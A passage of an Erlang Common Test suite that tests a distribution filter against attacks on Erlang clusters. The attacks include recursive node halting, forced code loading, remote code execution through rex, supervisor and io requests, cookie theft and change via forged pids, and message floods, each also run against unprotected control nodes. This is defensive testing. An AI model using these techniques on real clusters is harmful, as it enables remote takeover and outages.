%% The seven "Do NOT run" attacks of the ElixirConf 2023 talk on dist
%% filtering (Andrew Bennett, "Erlang Dist Filtering and the WhatsApp
%% Runtime System"), launched from a real stock OTP node (-proto_dist
%% inet_tcp) against ktls_filter nodes with the DEFAULT policy.
%%
%% For each attack the suite asserts that the target is alive, that none of
%% the attacker's code ran there (every attack fun first writes a marker
%% file named after the node it runs on; modules, children, ETS... are
%% checked where the attack would change them), that the dist connection is
%% the same one as before, that memory stayed bounded, that the caller got
%% an error at once instead of hanging, and that a legitimate workload on
%% the same connection still works. A control run shows that the same attack
%% does succeed against a stock inet_tcp node or with the filter's break
%% glass, so every check can fail.
%%
%% Beyond the talk: OTP's system processes addressed by pid and by forged
%% pid instead of by name (pid_bypass), exit/link/group-leader signals to
%% them (signals_to_system), requests through aliases (alias_requests),
%% atom table exhaustion (atom_flood), huge global names
%% (global_resources) and net_adm:ping as an amplifier (ping_amplifier).
%% These report every check as a PASS/FAIL line before failing (verdict/1).
-module(ktls_attack_SUITE).

-include_lib("common_test/include/ct.hrl").
-include_lib("stdlib/include/assert.hrl").

-export([all/0, suite/0, init_per_testcase/2, end_per_testcase/2]).
-export([recursive_halt/1, recursive_dist_shutdown/1, flood/1, forced_code_load/1,
         rex_cast/1, supervisor_start_child/1, io_request_mfa/1, otp_server_backdoors/1,
         pid_bypass/1, signals_to_system/1, alias_requests/1, atom_flood/1, global_resources/1,
         ping_amplifier/1]).
%% run on the nodes
-export([setup_node/0, mark/2, legit_workload/1, pg_member/0, bounded/2, try_erpc/4,
         erpc_attacks/3, halt_all_fun/1, shutdown_dist_fun/1, load_code_fun/3,
         multicast_fun/3, flood_send/2, flood_calls/2, start_sampler/0, sampler_peak/0, vm_hwm/0,
         code_server_load/3, rex_attacks/3, start_child_attacks/3, io_attacks/3,
         io_legit/1, backdoors/4, disconnects/1, third_node_io_request/3]).
-export([system_pids/0, system_attacks/5, auth_badcookie/4, halting_attacks/5, parallel/1,
         creation/1, forge_pid/4, target_creation/1, group_leaders/1, linked_to/2, alive/1,
         signal_group_leader/1, start_linker/1, stop_linker/2, signal_exit/2,
         signal_exit_forged/3, alias_sends/2, echo_call/2, atom_flood/5, existing_atoms/3,
         global_big_names/4, global_register_big/1, big_global_names/0, ping_attacks/3]).

-define(FAST_MS, 5000).
-define(MIB, (1024 * 1024)).
-define(GLOBAL, ["-kernel", "connect_all", "true"]).
%% For nodes a case makes halt: no crash dump.
-define(NO_DUMP, ["-env", "ERL_CRASH_DUMP_BYTES", "0"]).
%% How the attacker addresses a system process: registered name, the pid
%% read on the target, or a pid it builds itself.
-define(HOWS, [name, pid, forged]).
%% The system processes pid_bypass/1 attacks (kernel_config has no name:
%% only its pid is used, as data).
-define(BYPASS_NAMES, [init, file_server_2, code_server, application_controller, auth, inet_db,
                       kernel_sup, kernel_refc, kernel_safe_sup, erl_signal_server, kernel_config]).
%% The handler pid_bypass/1 adds to erl_signal_server (kernel's gen_event).
-define(EVIL_HANDLER, {erl_signal_handler, ktls_attack}).
%% The message shapes alias_requests/1 sends (see alias_kind/1).
-define(ALIAS_KINDS, [gen_call, gen_call_alias, gen_cast, system, exit, down, io_request,
                      code_call, reply, alias_reply, app]).
%% {Name, Actual, true | false}: whether Actual matches Pattern (variables
%% of Pattern bound before are compared, as in a case clause).
-define(CHECK(Name, Pattern, Actual),
        (fun(Actual__) ->
                 {Name, Actual__, case Actual__ of Pattern -> true; _ -> false end}
         end)(Actual)).

suite() -> [{timetrap, {minutes, 3}}].

all() ->
    [recursive_halt, recursive_dist_shutdown, flood, forced_code_load, rex_cast,
     supervisor_start_child, io_request_mfa, otp_server_backdoors, pid_bypass, signals_to_system,
     alias_requests, atom_flood, global_resources, ping_amplifier].

init_per_testcase(TC, Config) ->
    Dir = filename:join(?config(priv_dir, Config), atom_to_list(TC)),
    ok = filelib:ensure_dir(filename:join(Dir, "x")),
    [{marker_dir, Dir} | Config].

end_per_testcase(_TC, _Config) ->
    ktls_ct_nodes:stop_tracked().

%% ------------------------------------------------------------------
%% Attacks
%% ------------------------------------------------------------------

%% 1. Recursively halt all nodes: erpc:multicast(nodes(), erlang, apply,
%% [F, [F]]) where F spreads itself the same way and then halts. Two
%% ktls_filter targets connected to each other and to the attacker.
recursive_halt(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T1, N1}, {T2, N2}], {A, NA}} = cluster(2),
    Before = conn_ids([{T1, N1}, {T2, N2}], NA),
    %% erpc:multicast: no answer expected, nothing may run
    ok = call(A, multicast_fun, [halt_all_fun, Dir, [N1, N2]]),
    %% the same through erpc:multicall, erpc:call, spawn and spawn_monitor of
    %% a fun and rpc:call of erlang:apply/2: each refused, each fast
    Errors = call(A, erpc_attacks, [halt_all_fun, Dir, [N1, N2]]),
    ct:pal("erpc attacks: ~p", [Errors]),
    check_erpc_refused(Errors, 2),
    timer:sleep(300),
    [healthy(T, N, A, NA, Before) || {T, N} <- [{T1, N1}, {T2, N2}]],
    ?assertEqual([], markers(Dir)),
    %% Control: T2 with break glass runs the fun: it halts and spreads it
    %% to the attacker (stock, unfiltered), which halts too; T1 refuses it
    %% from both and stays up.
    ok = ktls_ct_nodes:call(T2, ktls_filter, config_set, [deep_packet_inspection, false]),
    ok = call(A, multicast_fun, [halt_all_fun, Dir, [N2]]),
    ok = ktls_ct_nodes:wait_until(fun() -> down(T2) andalso down(A) end, 10000),
    ?assert(marked(Dir, N2)),
    ?assert(marked(Dir, NA)),
    ?assertNot(marked(Dir, N1)),
    ?assertEqual(N1, ktls_ct_nodes:call(T1, erlang, node, [])),
    ?assert(refused(T1) >= 4).

%% 2. Recursively shut down dist: the same spreading fun, but it runs
%% supervisor:terminate_child(kernel_sup, net_sup) (and delete_child); also
%% asked for directly, through erpc and as gen_server calls to kernel_sup.
recursive_dist_shutdown(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T1, N1}, {T2, N2}], {A, NA}} = cluster(2),
    Before = conn_ids([{T1, N1}, {T2, N2}], NA),
    ok = call(A, multicast_fun, [shutdown_dist_fun, Dir, [N1, N2]]),
    check_erpc_refused(call(A, erpc_attacks, [shutdown_dist_fun, Dir, [N1, N2]]), 2),
    ?assertEqual({exit, {exception, unauthorized}},
                 call(A, try_erpc, [N1, supervisor, terminate_child, [kernel_sup, net_sup]])),
    %% supervisor:terminate_child({kernel_sup, Node}, net_sup): a gen_server
    %% call with timeout infinity; the filter answers it
    ?assertMatch({ok, {error, unauthorized}},
                 call(A, bounded, [fun() -> supervisor:terminate_child({kernel_sup, N1}, net_sup)
                                   end, ?FAST_MS])),
    ?assertMatch({ok, {error, unauthorized}},
                 call(A, bounded, [fun() -> supervisor:delete_child({kernel_sup, N2}, net_sup)
                                   end, ?FAST_MS])),
    timer:sleep(300),
    [begin
         healthy(T, N, A, NA, Before),
         ?assert(is_pid(child_pid(T, kernel_sup, net_sup))),
         ?assert(ktls_ct_nodes:call(T, erlang, is_alive, []))
     end || {T, N} <- [{T1, N1}, {T2, N2}]],
    ?assertEqual([], markers(Dir)),
    %% Control: with break glass T2 runs it and loses dist; T1 keeps it.
    ok = ktls_ct_nodes:call(T2, ktls_filter, config_set, [deep_packet_inspection, false]),
    ok = call(A, multicast_fun, [shutdown_dist_fun, Dir, [N2]]),
    ok = ktls_ct_nodes:wait_until(
           fun() -> not ktls_ct_nodes:call(T2, erlang, is_alive, []) end, 10000),
    ?assert(marked(Dir, N2)),
    ?assertEqual(undefined, child_pid(T2, kernel_sup, net_sup)),
    ?assertNot(marked(Dir, N1)),
    ?assert(ktls_ct_nodes:call(T1, erlang, is_alive, [])),
    ?assert(is_pid(child_pid(T1, kernel_sup, net_sup))).

%% 3. Flood: one 512 MiB message (8 x the same 64 MiB binary) to an
%% application process. The filter drops it while it arrives (over
%% max_message_size, default 128 MiB); the target's memory stays far below
%% the message size. Control: a stock node takes the whole message in.
flood(Config) ->
    _ = Config,
    {[{T, NT}], {A, NA}} = cluster(1),
    {S, NS} = stock(),
    connect(A, NS),
    Before = conn_ids([{T, NT}], NA),
    ok = call(T, start_sampler, []),
    ok = call(S, start_sampler, []),
    TooLarge0 = maps:get(too_large, world(T)),
    Ms = call(A, flood_send, [NT, 8]),
    ok = ktls_ct_nodes:wait_until(fun() -> maps:get(too_large, world(T)) > TooLarge0 end, 60000),
    Peak = call(T, sampler_peak, []),
    Hwm = call(T, vm_hwm, []),
    ct:pal("flood: sent in ~p ms; target erlang:memory(total) peak ~p MiB, VmHWM ~p MiB",
           [Ms, Peak div ?MIB, Hwm div ?MIB]),
    %% The sequence claims more than max_message_size: given up at its
    %% first fragment, nothing is buffered (15 MiB peak measured; 395 MiB
    %% when the buffer grew to the limit and doubled past it).
    ?assert(Peak < 64 * ?MIB),
    ?assert(Hwm < 256 * ?MIB),
    healthy(T, NT, A, NA, Before),
    %% The same 512 MiB as the argument of an erpc call and of a gen_server
    %% call (both timeout infinity): given up for its size too, and the
    %% caller is told instead of waiting forever.
    Calls = call(A, flood_calls, [NT, 8]),
    ct:pal("flood calls: ~p", [Calls]),
    ?assertMatch(#{erpc := {ok, {exit, {exception, unauthorized}}},
                   gen_call := {ok, {error, unauthorized}}}, Calls),
    ?assertEqual(TooLarge0 + 3, maps:get(too_large, world(T))),
    ?assert(call(T, sampler_peak, []) < 64 * ?MIB),
    ?assert(call(T, vm_hwm, []) < 256 * ?MIB),
    healthy(T, NT, A, NA, Before),
    %% Control: the stock node holds the whole message.
    _ = call(A, flood_send, [NS, 8]),
    ok = ktls_ct_nodes:wait_until(fun() -> call(S, sampler_peak, []) > 512 * ?MIB end, 60000),
    %% (it may still be decoding the 512 MiB when the sampler sees them: on
    %% two shared cores a 5 s call can time out meanwhile, so retried)
    ok = ktls_ct_nodes:wait_until(fun() -> (catch call(A, legit_workload, [NS])) =:= ok end,
                                  60000).

%% 4. Forced code loading: code:load_binary/3 of a module the target does
%% not have, through erpc, rpc, the talk's spreading fun, and a direct
%% code_server request. Control: with break glass the module loads.
forced_code_load(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T, NT}], {A, NA}} = cluster(1),
    Before = conn_ids([{T, NT}], NA),
    {Mod, Bin} = evil_module(),
    File = atom_to_list(Mod) ++ ".erl",
    Args = [Mod, File, Bin],
    ?assertEqual({exit, {exception, unauthorized}}, call(A, try_erpc, [NT, code, load_binary, Args])),
    ?assertEqual({ok, {badrpc, {'EXIT', unauthorized}}},
                 call(A, bounded, [fun() -> rpc:call(NT, code, load_binary, Args) end, ?FAST_MS])),
    ok = call(A, multicast_fun, [{load_code_fun, Mod, Bin}, Dir, [NT]]),
    check_erpc_refused(call(A, erpc_attacks, [{load_code_fun, Mod, Bin}, Dir, [NT]]), 1),
    %% code_server's own protocol has no error reply: no answer at all
    ?assertEqual(no_reply, call(A, code_server_load, [NT, Mod, Bin])),
    timer:sleep(300),
    ?assertEqual(false, ktls_ct_nodes:call(T, code, is_loaded, [Mod])),
    ?assertEqual([], markers(Dir)),
    healthy(T, NT, A, NA, Before),
    %% Control: break glass.
    ok = ktls_ct_nodes:call(T, ktls_filter, config_set, [deep_packet_inspection, false]),
    ?assertEqual({ok, {module, Mod}}, call(A, try_erpc, [NT, code, load_binary, Args])),
    ?assertMatch({file, _}, ktls_ct_nodes:call(T, code, is_loaded, [Mod])).

%% 5. RCE without spawn request: {'$gen_cast', {cast, M, F, A, GL}} to rex
%% (old-style rpc:cast), by name and by pid; the call forms too
%% (rpc:block_call, a raw gen_server call to rex), and rpc:call/rpc:cast
%% of erlang:apply. Control: the same cast to a stock node runs the fun.
rex_cast(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T, NT}], {A, NA}} = cluster(1),
    {S, NS} = stock(),
    connect(A, NS),
    Before = conn_ids([{T, NT}], NA),
    RexPid = ktls_ct_nodes:call(T, erlang, whereis, [rex]),
    Results = call(A, rex_attacks, [Dir, NT, RexPid]),
    ct:pal("rex attacks: ~p", [Results]),
    #{rpc_call := {ok, {badrpc, {'EXIT', unauthorized}}},
      rpc_block_call := {ok, {badrpc, {'EXIT', unauthorized}}},
      gen_call_rex := {ok, {badrpc, {'EXIT', unauthorized}}},
      gen_call_rex_pid := {ok, {badrpc, {'EXIT', unauthorized}}},
      rpc_cast := true} = Results,
    timer:sleep(500),
    ?assertEqual([], markers(Dir)),
    ?assertEqual(false, ktls_ct_nodes:call(T, os, getenv, ["KTLS_ATTACK"])),
    healthy(T, NT, A, NA, Before),
    %% Control: stock node.
    RexS = ktls_ct_nodes:call(S, erlang, whereis, [rex]),
    _ = call(A, rex_attacks, [Dir, NS, RexS]),
    ok = ktls_ct_nodes:wait_until(fun() -> marked(Dir, NS) end, 5000),
    ?assertEqual("rex", ktls_ct_nodes:call(S, os, getenv, ["KTLS_ATTACK"])).

%% 6. RCE without spawn request or rex: supervisor:start_child({kernel_sup,
%% Node}, ChildSpec) whose start MFA is erlang:apply of a fun; by name, by
%% kernel_sup's pid, and an old-style child spec tuple to another
%% supervisor's pid. The caller gets {error, unauthorized} at once.
%% Control: a stock node starts the child.
supervisor_start_child(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T, NT}], {A, NA}} = cluster(1),
    {S, NS} = stock(),
    connect(A, NS),
    Before = conn_ids([{T, NT}], NA),
    Children0 = ktls_ct_nodes:call(T, supervisor, count_children, [kernel_sup]),
    KSup = ktls_ct_nodes:call(T, erlang, whereis, [kernel_sup]),
    SafeSup = ktls_ct_nodes:call(T, erlang, whereis, [kernel_safe_sup]),
    Results = call(A, start_child_attacks, [Dir, NT, [KSup, SafeSup]]),
    ct:pal("start_child attacks: ~p", [Results]),
    [?assertEqual({ok, {error, unauthorized}}, R) || R <- Results],
    ?assertEqual(4, length(Results)),
    timer:sleep(300),
    ?assertEqual([], markers(Dir)),
    ?assertEqual(Children0, ktls_ct_nodes:call(T, supervisor, count_children, [kernel_sup])),
    healthy(T, NT, A, NA, Before),
    %% Control: stock node.
    KSupS = ktls_ct_nodes:call(S, erlang, whereis, [kernel_sup]),
    [{ok, {ok, undefined}} | _] = call(A, start_child_attacks, [Dir, NS, [KSupS]]),
    ?assert(marked(Dir, NS)).

%% 7. RCE without spawn request, rex or supervisor: {io_request, From, Ref,
%% {put_chars, unicode, M, F, A}} to standard_error, to user and to a group
%% leader process, plus the same through erl_scan's reserved_word_fun
%% option. The sender gets an io_reply error. io:format to a remote group
%% leader still works. Control: a stock node runs the fun.
io_request_mfa(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T, NT}], {A, NA}} = cluster(1),
    {S, NS} = stock(),
    connect(A, NS),
    Before = conn_ids([{T, NT}], NA),
    Io = io_server(T),
    Results = call(A, io_attacks, [Dir, NT, [standard_error, user, Io]]),
    ct:pal("io attacks: ~p", [Results]),
    ?assertEqual(6, length(Results)),
    [?assertEqual({error, unauthorized}, R) || R <- Results],
    %% The caller named in a request may be on a third node (here the stock
    %% one): the filter must not answer it, because the VM would send the
    %% answer's spawn reply to the attacker, whose VM takes a reply to a pid
    %% not its own for an invalid message and drops the connection (and
    %% global then drops others). healthy/5 checks the connection is the same.
    ok = call(A, third_node_io_request, [Dir, NT, NS]),
    timer:sleep(300),
    ?assertEqual([], markers(Dir)),
    healthy(T, NT, A, NA, Before),
    %% Control: stock node, its standard_error and a group leader there.
    IoS = io_server(S),
    _ = call(A, io_attacks, [Dir, NS, [standard_error, IoS]]),
    ok = ktls_ct_nodes:wait_until(fun() -> marked(Dir, NS) end, 5000).

%% Beyond the talk: OTP servers that run code, relay messages to local
%% names or drop connections for any caller: net_kernel's spawn call of
%% old nodes and its registered_send relay, rex's {Node, {call, ...}} form
%% and its sbcast/send relays, global's registrar and name clash resolver
%% funs, sys:replace_state/2 and sys:suspend/1, an io server's expand_fun,
%% a log event's report_cb, gen_event:add_handler/3 (Handler:init/1 of any
%% module), and net_kernel/global disconnects. Control: a stock node does
%% all of it.
otp_server_backdoors(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T, NT}], {A, NA}} = cluster(1),
    {S, NS} = stock(),
    connect(A, NS),
    Before = conn_ids([{T, NT}], NA),
    {Mod, Bin} = evil_module(),
    R = call(A, backdoors, [Dir, NT, Mod, Bin]),
    ct:pal("backdoors: ~p", [R]),
    #{net_kernel_spawn := {ok, {error, unauthorized}},
      relay_start_child := {error, unauthorized},
      relay_code_server := no_reply,
      global_registrar := {ok, {error, unauthorized}},
      global_resolver := {ok, {error, unauthorized}},
      replace_state := {exit, {unauthorized, _}},
      sys_suspend := {ok, {error, unauthorized}},
      io_setopts := {ok, {error, unauthorized}},
      add_handler := {ok, {error, unauthorized}}} = R,
    ?assertEqual([], ktls_ct_nodes:call(T, gen_event, which_handlers, [ktls_attack_events])),
    ?assertEqual(#{net_kernel_disconnect => {ok, {error, unauthorized}},
                   global_disconnect => {ok, {error, unauthorized}}},
                 call(A, disconnects, [NT])),
    timer:sleep(500),
    ?assertEqual([], markers(Dir)),
    ?assertEqual(false, ktls_ct_nodes:call(T, code, is_loaded, [Mod])),
    healthy(T, NT, A, NA, Before),
    %% Control: stock node.
    RS = call(A, backdoors, [Dir, NS, Mod, Bin]),
    ct:pal("backdoors on a stock node: ~p", [RS]),
    ?assertMatch(#{net_kernel_spawn := {ok, Pid}} when is_pid(Pid), RS),
    ?assertMatch(#{relay_code_server := {module, Mod}, sys_suspend := {ok, ok},
                   io_setopts := {ok, {error, request}}, add_handler := {ok, ok}}, RS),
    ?assertMatch({file, _}, ktls_ct_nodes:call(S, code, is_loaded, [Mod])),
    ok = ktls_ct_nodes:wait_until(
           fun() ->
                   Ms = [M || M <- markers(Dir), lists:suffix("@" ++ atom_to_list(NS), M)],
                   length(Ms) >= 8
           end, 15000),  % the control's backdoors, on a loaded machine too
    %% the disconnects last: a stock node loses the attacker's connection,
    %% or all of kernel (global_name_server's disconnect can crash it, and
    %% kernel_sup restarts nothing)
    _ = call(A, disconnects, [NS]),
    ok = ktls_ct_nodes:wait_until(
           fun() ->
                   case catch ktls_ct_nodes:call(S, erlang, nodes, [], 2000) of
                       Nodes when is_list(Nodes) -> not lists:member(NA, Nodes);
                       _ -> true
                   end
           end, 5000).

%% ------------------------------------------------------------------
%% System processes by pid, signals, aliases, atoms, global, ping
%% ------------------------------------------------------------------
%%
%% These cases collect the checks of each phase and report them all (one
%% PASS/FAIL line each in the log) before the case fails, so one run shows
%% which protections hold and which do not: a phase that crashes (say,
%% because the target halted) is one failed check, and the later phases,
%% the control runs included, still run.

%% OTP's system processes addressed by registered name, by pid (the pid
%% read on the target) and by a FORGED pid (built on the attacker from the
%% target's node name, the process's numbers and the creation of a pid it
%% got from the target; init as <0.0.0>, which it is on every node):
%% gen_server calls to file_server_2 (write a file, read
%% /proc/self/cmdline), application_controller (set_env,
%% which_applications), auth (read and set the cookie), inet_db
%% (add_host), kernel_sup (which_children, terminate/restart/delete_child),
%% erl_signal_server (gen_event:add_handler/3, which_handlers/1);
%% code_server's load_binary; init's get_arguments (the command line,
%% cookie included); sys:get_status and sys:suspend; auth's badcookie
%% message that disconnects a third node; then what halts a stock node:
%% auth's badcookie message for an unknown name (auth crashes, net_sup and
%% kernel_sup follow), plain {'EXIT', ...} messages to init, kernel_safe_sup
%% and kernel_sup, {stop, stop} to init, sys:terminate/3. Nothing happens
%% on the target, the calls are answered {error, unauthorized}, the target
%% stays up. Control: two stock nodes do all of it.
pid_bypass(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T, NT}, {T2, NT2}], {A, NA}} = cluster(2),
    Before = conn_ids([{T, NT}, {T2, NT2}], NA),
    Pids = maps:with(?BYPASS_NAMES, call(T, system_pids, [])),
    Cookie = ktls_ct_nodes:call(T, erlang, get_cookie, []),
    Attacks =
        phase(attacks,
              fun() ->
                      Rs = [{How, call(A, system_attacks, [Dir, NT, How, dest_info(How, Pids),
                                                           evil_module_for(How)])}
                            || How <- ?HOWS],
                      ct:pal("system attacks: ~p", [Rs]),
                      {forged, Forged} = lists:keyfind(forged, 1, Rs),
                      lists:append([refused_checks(NT, How, R) || {How, R} <- Rs]) ++
                          [?CHECK(forged_pids_match, [], map_diff(Pids, maps:get(dests, Forged)))]
              end),
    timer:sleep(300),
    Effects =
        phase(effects,
              fun() ->
                      KConfig = safe(fun() -> child_pid(T, kernel_sup, kernel_config) end),
                      [chk(no_file_written, markers(Dir),
                           [M || M <- markers(Dir), lists:prefix("file_server_", M)] =:= []),
                       ?CHECK(code_not_loaded, [false, false, false],
                              [safe_call(T, code, is_loaded, [evil_name(H)]) || H <- ?HOWS]),
                       ?CHECK(env_not_set, undefined,
                              safe_call(T, application, get_env, [kernel, ktls_attack_env])),
                       ?CHECK(cookie_unchanged, Cookie, safe_call(T, erlang, get_cookie, [])),
                       ?CHECK(host_not_added, [{error, nxdomain}, {error, nxdomain}, {error, nxdomain}],
                              [safe_call(T, inet_hosts, gethostbyname, [evil_host(H)]) || H <- ?HOWS]),
                       chk(kernel_config_untouched, KConfig, KConfig =:= maps:get(kernel_config, Pids)),
                       ?CHECK(kernel_refc_running, {status, _, _, [_, running | _]},
                              safe_call(T, sys, get_status, [kernel_refc, 2000])),
                       ?CHECK(no_handler_added, false,
                              member(?EVIL_HANDLER,
                                     safe_call(T, gen_event, which_handlers, [erl_signal_server])))]
              end),
    %% auth's badcookie handler disconnects the node of the pid it names
    Badcookie =
        phase(badcookie,
              fun() ->
                      T2Pid = ktls_ct_nodes:call(T2, erlang, whereis, [ktls_attack_server]),
                      Conn = conn_id(T, NT2),
                      [ok = call(A, auth_badcookie, [NT, How, dest_info(How, Pids), T2Pid])
                       || How <- ?HOWS],
                      timer:sleep(500),
                      [?CHECK(t2_same_connection, Conn, safe(fun() -> conn_id(T, NT2) end))]
              end),
    %% what halts a stock node: nothing of it may reach the target
    Halts =
        phase(halting,
              fun() ->
                      Data = maps:with([application_controller, kernel_sup, kernel_config], Pids),
                      Rs = [{How, call(A, halting_attacks, [NT, How, dest_info(How, Pids), Data, all])}
                            || How <- ?HOWS],
                      timer:sleep(1500),
                      [?CHECK({How, sys_terminate}, {ok, {error, unauthorized}}, maps:get(sys_terminate, R))
                       || {How, R} <- Rs] ++
                          [?CHECK(target_up, NT, safe_call(T, erlang, node, [])),
                           ?CHECK(system_pids_unchanged, [],
                              map_diff(Pids, safe(fun() -> maps:with(?BYPASS_NAMES, call(T, system_pids, [])) end)))]
              end),
    Healthy = [?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end)),
               ?CHECK(healthy_target2, ok, safe(fun() -> healthy(T2, NT2, A, NA, Before) end))],
    %% Control: a stock node.
    Control =
        phase(control,
              fun() ->
                      {S, NS} = stock(?NO_DUMP),
                      connect(A, NS),
                      SPids = maps:with(?BYPASS_NAMES, call(S, system_pids, [])),
                      Rs = [{How, call(A, system_attacks, [Dir, NS, How, dest_info(How, SPids),
                                                           evil_module_for(How)])}
                            || How <- ?HOWS],
                      Checks =
                          lists:append([stock_checks(NS, How, R) || {How, R} <- Rs]) ++
                          [chk({NS, files_written}, markers(Dir),
                               length([M || M <- markers(Dir), lists:prefix("file_server_", M),
                                            lists:suffix("@" ++ atom_to_list(NS), M)]) =:= 3),
                           ?CHECK({NS, code_loaded}, [{file, _}, {file, _}, {file, _}],
                                  [safe_call(S, code, is_loaded, [evil_name(H)]) || H <- ?HOWS]),
                           ?CHECK({NS, env_set}, {ok, _},
                                  safe_call(S, application, get_env, [kernel, ktls_attack_env])),
                           ?CHECK({NS, cookie_changed}, ktls_evil_cookie, safe_call(S, erlang, get_cookie, [])),
                           ?CHECK({NS, handler_added}, true,
                                  member(?EVIL_HANDLER,
                                         safe_call(S, gen_event, which_handlers, [erl_signal_server]))),
                           ?CHECK({NS, host_added}, [{ok, _}, {ok, _}, {ok, _}],
                                  [safe_call(S, inet_hosts, gethostbyname, [evil_host(H)]) || H <- ?HOWS])],
                      SData = maps:with([application_controller, kernel_sup, kernel_config], SPids),
                      _ = call(A, halting_attacks, [NS, forged, dest_info(forged, SPids), SData, [init_exit]]),
                      Checks ++ [?CHECK({NS, init_exit_halts}, ok,
                                        ktls_ct_nodes:wait_until(fun() -> down(S) end, 10000))]
              end),
    %% Control: auth's badcookie messages on a second stock node: it drops
    %% the attacker; one for a name it does not know crashes auth, which
    %% takes net_sup and then the node down.
    AuthControl =
        phase(auth_control,
              fun() ->
                      {S2, NS2} = stock(?NO_DUMP),
                      connect(A, NS2),
                      S2Pids = maps:with(?BYPASS_NAMES, call(S2, system_pids, [])),
                      APid = ktls_ct_nodes:call(A, erlang, whereis, [ktls_attack_server]),
                      ok = call(A, auth_badcookie, [NS2, pid, S2Pids, APid]),
                      Connected = fun(P, N) -> member(N, ktls_ct_nodes:call(P, erlang, nodes, [])) end,
                      Dropped = ktls_ct_nodes:wait_until(
                                  fun() -> not Connected(S2, NA) andalso not Connected(A, NS2) end, 5000),
                      connect(A, NS2),
                      ok = ktls_ct_nodes:wait_until(fun() -> Connected(S2, NA) end, 5000),
                      _ = call(A, halting_attacks, [NS2, pid, S2Pids, #{}, [auth_crash]]),
                      [?CHECK({NS2, badcookie_disconnects}, ok, Dropped),
                       ?CHECK({NS2, auth_crash_halts}, ok,
                              ktls_ct_nodes:wait_until(fun() -> down(S2) end, 15000))]
              end),
    verdict(Attacks ++ Effects ++ Badcookie ++ Halts ++ Healthy ++ Control ++ AuthControl).

%% Exit signals (exit/2 with reason kill, to the pids read on the target
%% and to forged ones), link requests (and the exit of the linked process
%% with reason kill) and group_leader/2 from the attacker to OTP's system
%% processes, named and unnamed (init, the kernel application master and
%% its child, user_sup, kernel_config, the literal area collector,
%% application_controller, kernel_sup, net_sup, global_name_server, user,
%% standard_error, ...): none reaches them; the target stays up on the same
%% connection. The same to application processes still works. Control: a
%% stock node takes the group leader change, loses standard_error to
%% exit/2, and halts when a process linked to kernel_refc exits.
signals_to_system(Config) ->
    _ = Config,
    {[{T, NT}], {A, NA}} = cluster(1),
    Before = conn_ids([{T, NT}], NA),
    All = call(T, system_pids, []),
    %% socket_registry has init as its group leader like the named ones of
    %% the definition but is not one of them: checked on its own
    Pids = maps:without([socket_registry], All),
    Extra = maps:with([socket_registry], All),
    APid = ktls_ct_nodes:call(A, erlang, whereis, [ktls_attack_server]),
    Links =
        phase(links,
              fun() ->
                      GL0 = call(T, group_leaders, [All]),
                      ok = call(A, signal_group_leader, [maps:values(All)]),
                      Linker = call(A, start_linker, [maps:values(All)]),
                      timer:sleep(300),
                      GL = safe_call(T, ?MODULE, group_leaders, [All]),
                      Linked = safe_call(T, ?MODULE, linked_to, [All, Linker]),
                      With = fun(M, Keys) when is_map(M) -> maps:with(Keys, M);
                                (Other, _) -> Other
                             end,
                      Only = fun(L, M) when is_list(L) -> [K || K <- L, maps:is_key(K, M)];
                                (Other, _) -> Other
                             end,
                      {GL0Sys, GL0Extra} = {With(GL0, maps:keys(Pids)), With(GL0, maps:keys(Extra))},
                      Checks = [?CHECK(group_leaders_unchanged, [], map_diff(GL0Sys, With(GL, maps:keys(Pids)))),
                                ?CHECK(not_linked, [], Only(Linked, Pids)),
                                ?CHECK({outside_definition, gl_init, group_leader_unchanged}, [],
                                       map_diff(GL0Extra, With(GL, maps:keys(Extra)))),
                                ?CHECK({outside_definition, gl_init, not_linked}, [], Only(Linked, Extra))],
                      ok = call(A, stop_linker, [Linker, kill]),
                      Checks
              end),
    Exits =
        phase(exits,
              fun() ->
                      Ids = [{K, pid_numbers(P)} || {K, P} <- maps:to_list(All)],
                      Forged = call(A, signal_exit_forged, [NT, Ids, kill]),
                      ok = call(A, signal_exit, [maps:values(All), kill]),
                      timer:sleep(1000),
                      Dead = fun(M) when is_map(M) -> [K || {K, false} <- maps:to_list(M)];
                                (Other) -> Other
                             end,
                      [?CHECK(forged_pids_match, [], map_diff(All, maps:from_list(Forged))),
                       ?CHECK(target_up, NT, safe_call(T, erlang, node, [])),
                       ?CHECK(system_processes_dead, [], Dead(safe_call(T, ?MODULE, alive, [Pids]))),
                       ?CHECK({outside_definition, gl_init, dead}, [],
                              Dead(safe_call(T, ?MODULE, alive, [Extra])))]
              end),
    %% application processes: exit, link + exit, group leader
    Apps =
        phase(application_processes,
              fun() ->
                      [C1, C2, C3] = [ktls_ct_nodes:call(T, gen_server, call, [ktls_attack_server, spawn_child])
                                      || _ <- [1, 2, 3]],
                      ok = call(A, signal_exit, [[C1], kill]),
                      L2 = call(A, start_linker, [[C2]]),
                      ok = call(A, stop_linker, [L2, kill]),
                      ok = call(A, signal_group_leader, [[C3]]),
                      timer:sleep(300),
                      [?CHECK(app_exit_works, false, safe_call(T, erlang, is_process_alive, [C1])),
                       ?CHECK(app_link_exit_works, false, safe_call(T, erlang, is_process_alive, [C2])),
                       ?CHECK(app_group_leader_works, {group_leader, APid},
                              safe_call(T, erlang, process_info, [C3, group_leader]))]
              end),
    Healthy = [?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))],
    %% Control: a stock node.
    Control =
        phase(control,
              fun() ->
                      {S, NS} = stock(?NO_DUMP),
                      connect(A, NS),
                      SPids = call(S, system_pids, []),
                      ok = call(A, signal_group_leader, [[maps:get(user_sup, SPids)]]),
                      ok = call(A, signal_exit, [[maps:get(standard_error, SPids)], kill]),
                      SLinker = call(A, start_linker, [[maps:get(kernel_refc, SPids)]]),
                      timer:sleep(300),
                      Checks = [?CHECK({NS, group_leader_changed}, {group_leader, APid},
                                       safe_call(S, erlang, process_info,
                                                 [maps:get(user_sup, SPids), group_leader])),
                                ?CHECK({NS, standard_error_killed}, false,
                                       safe_call(S, erlang, is_process_alive,
                                                 [maps:get(standard_error, SPids)])),
                                ?CHECK({NS, linked}, [kernel_refc],
                                       safe_call(S, ?MODULE, linked_to,
